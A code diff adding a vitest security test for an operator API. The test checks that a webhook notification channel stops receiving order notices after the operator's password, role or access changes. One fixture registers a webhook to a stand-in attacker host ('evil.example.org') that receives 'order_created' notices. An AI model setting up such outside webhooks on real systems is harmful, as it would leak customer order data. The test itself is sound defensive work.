@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, expect, test } from 'vitest'
+import { sql } from '../../src/server/database/database.ts'
 import { ApiFailure, acceptInvitation, apiOf, operatorToken, password } from '../support/api.ts'
 import { startServer, type TestServer } from '../support/server.ts'
 
@@ -78,4 +79,33 @@ test('a renewed link ends them before it is used', async () => {
   const { id, session, key } = await staffed()
   await owner('POST', `/operator/operators/${id}/invitation`, { removesSecondFactor: false })
   expect([await opens(key), await opens(session)]).toEqual([false, false])
+})
+
+test('a channel of who had the password hears nothing more after another password, role or loss of access', async () => {
+  const { context } = server
+  const ends: ((other: Awaited<ReturnType<typeof staffed>>) => Promise<unknown>)[] = [
+    ({ login, session }) =>
+      apiOf(server.url, session)('POST', '/operator/password', {
+        name: login,
+        oldPassword: password,
+        newPassword: 'gravel and violets 8',
+      }),
+    ({ id, revision }) => owner('PATCH', `/operator/operators/${id}`, { revision, role: 'finance' }),
+    ({ id, revision }) => owner('PATCH', `/operator/operators/${id}`, { revision, isDisabled: true }),
+  ]
+  for (const end of ends) {
+    const other = await staffed()
+    await apiOf(server.url, other.session)('POST', '/operator/channels', {
+      target: { kind: 'webhook', url: 'https://evil.example.org/hook' },
+      notices: ['order_created'],
+    })
+    await context.db.query(
+      sql`update operator_channels set proven_at = now() where operator_id = ${other.id}`,
+    )
+    await end(other)
+    const { heard } = await context.db.one<{ heard: number }>(
+      sql`select count(*)::integer as heard from operator_channels where operator_id = ${other.id} and proven_at is not null`,
+    )
+    expect(heard).toBe(0)
+  }
 })
